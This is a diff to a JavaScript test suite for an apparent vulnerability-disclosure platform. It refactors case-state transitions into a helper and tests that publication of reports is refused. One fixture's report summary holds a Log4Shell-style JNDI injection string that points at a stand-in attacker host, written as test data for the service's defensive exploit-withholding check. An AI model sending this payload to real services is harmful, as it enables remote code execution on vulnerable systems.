@@ -2,7 +2,7 @@
 import { describe, it, before, after } from 'node:test';
 import assert from 'node:assert/strict';
 import { Server, cli } from './lib/server.mjs';
-import { createOrg, createProduct, createUser, signedInUser, submitReport, acceptedCase, uniq } from './lib/fixtures.mjs';
+import { createOrg, createProduct, createUser, signedInUser, submitReport, acceptedCase, uniq, moveCase } from './lib/fixtures.mjs';
 
 const CRITICAL = 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H';
 const HOUR = 3600 * 1000;
@@ -216,10 +216,7 @@ describe('walk-through', () => {
     const { caseId } = await acceptedCase(admin, anon, { product_id: productA.id });
     let r = await admin.patch(`/api/v1/cases/${caseId}`, { operator_system: true });
     assert.equal(r.status, 200, r.text);
-    for (const to of ['confirmed', 'fixing', 'fixed']) {
-      r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to });
-      assert.equal(r.status, 200, `${to}: ${r.text}`);
-    }
+    await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
     r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
     assert.equal(r.status, 409, r.text);
     assert.equal(r.json.error.code, 'publication_refused');
@@ -235,10 +232,7 @@ describe('walk-through', () => {
       summary: 'Remote code execution. PoC: send ${jndi:ldap://attacker.example/a} as the user agent.',
     });
     assert.equal(r.status, 200, r.text);
-    for (const to of ['confirmed', 'fixing', 'fixed']) {
-      r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to });
-      assert.equal(r.status, 200, `${to}: ${r.text}`);
-    }
+    await moveCase(admin, caseId, ['confirmed', 'fixing', 'fixed']);
     r = await admin.post(`/api/v1/cases/${caseId}/transitions`, { to: 'published' });
     assert.equal(r.status, 409, r.text);
     assert.deepEqual(r.json.error.details.allowed, ['no_exploit']);
